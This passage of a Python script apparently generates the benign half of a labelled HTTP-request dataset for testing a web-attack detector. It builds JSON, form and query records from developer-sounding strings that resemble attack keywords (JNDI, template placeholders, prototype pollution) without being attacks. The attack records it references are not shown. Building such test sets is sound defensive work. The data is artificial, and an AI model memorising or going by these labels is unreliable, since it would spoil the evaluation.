    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://maven.apache.org/plugins/maven-shade-plugin/",
    "https://calendar.google.com/calendar/ical/en.uk%23holiday%40group.v.calendar.google.com/public/basic.ics",
    "https://example.com/webhooks/payments?source=stripe&v=2",
]

PROSE = [
    "log4j-core 2.17.1 upgrade",
    "JNDI datasource jdbc/OrdersDB",
    "ClassNotFoundException org.h2.Driver",
    "webhook to hooks.slack.com failing with 403",
    "template {{first_name}} shows up literally in the email",
    "users with locale pt-BR and timezone America/Sao_Paulo",
    "ObjectMapper FAIL_ON_UNKNOWN_PROPERTIES",
    "prototype pollution fix lodash merge",
    "eval removed from formula builder",
    "spawn ffmpeg ENOENT",
    "subprocess.run timeout in export job",
    "ERB template for the invoice email",
    "Runtime.getRuntime().exec replaced with ProcessBuilder",
    "metadata endpoint blocked on build runners",
    "Thymeleaf th:utext vs th:text",
    "SnakeYAML 2.2 migration",
    "jackson polymorphic type handling",
    "${app.name} not resolved in mail subject",
    "rails Marshal cookie serializer migration",
    "handlebars helper formatDate",
]


def _benign(rec: dict[str, Any], kind: str, n: int, placement: str) -> dict[str, Any]:
    return {**rec, "id": f"{SET}-benign-{kind}-{n:04d}", "category": "benign", "placement": placement}


def benign() -> Iterator[dict[str, Any]]:
    yield from chat_and_bio(DEVCODE, f"{SET}-benign-devcode")
    n = 0
    for k, text in enumerate(TEMPLATES, 1):
        doc = {"name": f"notification-{k}", "channel": ("email", "slack", "sms")[k % 3], "locale": "en-GB",
               "body": text}
        n += 1
        yield _benign(_json("/api/notifications/templates", doc), "template", n, "json")
        n += 1
        yield _benign(_form(f"/admin/templates/{k}", [("csrf_token", "t0k3n"), ("name", f"notification-{k}"),
                                                       ("body", text)]), "template", n, "form")
    n = 0
    for text in STACKTRACES:
        n += 1
        yield _benign(_json("/api/support/tickets", {"title": text.split("\n")[0][:80], "component": "billing",
                                                     "details": text, "tags": ["java", "prod"]}),
                      "stacktrace", n, "json")
        n += 1
        yield _benign(_form("/admin/incidents/INC-2041/notes", [("csrf_token", "t0k3n"), ("note", text)]),
                      "stacktrace", n, "form")
    n = 0
    for filename, text in CONFIGS:
        n += 1
        yield _benign(_json("/api/snippets", {"filename": filename, "visibility": "team", "content": text}),
                      "config", n, "json")
        n += 1
        yield _benign(_form("/admin/config/preview", [("csrf_token", "t0k3n"), ("filename", filename),
                                                      ("content", text)]), "config", n, "form")
    n = 0
    for k, doc in enumerate(SETTINGS):
        n += 1
        yield _benign({**_json("/api/users/42/settings", doc), "method": "PUT"}, "settings", n, "json")
        if k % 2 == 0:
            n += 1
            yield _benign(_form("/admin/workspaces/7/settings", [("csrf_token", "t0k3n"),
                                                                 ("settings_json", json.dumps(doc))]),
                          "settings", n, "form")
    n = 0
    for k, (locale, tz, fmt, accept) in enumerate(LOCALES):
        n += 1
        rec = _get(_query("/api/users/42/preferences", [("locale", locale), ("timezone", tz), ("date_format", fmt)]))
        yield _benign({**rec, "headers": {**rec["headers"], "Accept-Language": accept}}, "locale", n, "query")
        if k % 2 == 0:
            n += 1
            yield _benign({**_json("/api/users/42/preferences", {"locale": locale, "timezone": tz,
                                                                 "date_format": fmt}), "method": "PUT"},
                          "locale", n, "json")
    yield from links_and_prose(PUBLIC_URLS, PROSE, f"{SET}-benign", 0)


if __name__ == "__main__":
    print_records(attacks(), benign())
